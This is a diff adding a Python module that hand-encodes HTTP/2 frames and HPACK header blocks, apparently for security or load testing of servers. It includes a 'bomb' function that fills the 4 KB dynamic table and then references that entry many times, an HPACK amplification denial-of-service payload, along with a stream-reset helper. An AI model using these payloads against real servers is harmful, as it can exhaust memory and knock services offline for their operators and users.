@@ -1,0 +1,79 @@
+"""HTTP/2 frames and header blocks as bytes, for loads that no ordinary client makes (RFC 9113, RFC 7541)."""
+
+import struct
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 0x1, 0x3, 0x4, 0x8
+END_STREAM, END_HEADERS = 0x1, 0x4
+CANCEL = 0x8
+FIRST_DYNAMIC = 62  # index of the newest entry in the dynamic table
+ENTRY_OVERHEAD, TABLE_SIZE = 32, 4096  # RFC 7541 section 4.1; the default size of the dynamic table
+METHOD_GET, SCHEME_HTTPS = b"\x82", b"\x87"  # entries of the static table
+PATH, AUTHORITY = 4, 1  # names in the static table
+MAX_FRAME = 16_384
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload
+
+
+def integer(value, prefix_bits, first=0):
+    """An integer of a header block; `first` has the bits before the prefix (RFC 7541 section 5.1)."""
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first | value])
+    octets, value = [first | limit], value - limit
+    while value >= 128:
+        octets.append(value % 128 + 128)
+        value //= 128
+    return bytes([*octets, value])
+
+
+def text(value):
+    """A string literal without Huffman coding."""
+    return integer(len(value), 7) + value.encode()
+
+
+def named_literal(index, value):
+    """A field whose name is in the static table; the dynamic table stays as it is."""
+    return integer(index, 4) + text(value)
+
+
+def indexed_literal(name, value):
+    """A field that becomes the newest entry of the dynamic table."""
+    return b"\x40" + text(name) + text(value)
+
+
+def reference(index):
+    """A field that is in a table."""
+    return integer(index, 7, 0x80)
+
+
+def get(host, path):
+    """The pseudo-header fields of a GET request."""
+    return METHOD_GET + SCHEME_HTTPS + named_literal(PATH, path) + named_literal(AUTHORITY, host)
+
+
+def request(stream, block, flags=END_STREAM | END_HEADERS):
+    assert len(block) <= MAX_FRAME
+    return frame(HEADERS, flags, stream, block)
+
+
+def reset(stream):
+    return frame(RST_STREAM, 0, stream, struct.pack("!I", CANCEL))
+
+
+def opening():
+    """What a client begins a connection with."""
+    return PREFACE + frame(SETTINGS, 0, 0)
+
+
+def large_field():
+    """A field that fills the dynamic table, about 4 KB."""
+    name = "x-a"
+    return indexed_literal(name, "a" * (TABLE_SIZE - ENTRY_OVERHEAD - len(name)))
+
+
+def bomb(host, path, references):
+    """A header block that names the newest entry of the dynamic table many times."""
+    return get(host, path) + reference(FIRST_DYNAMIC) * references
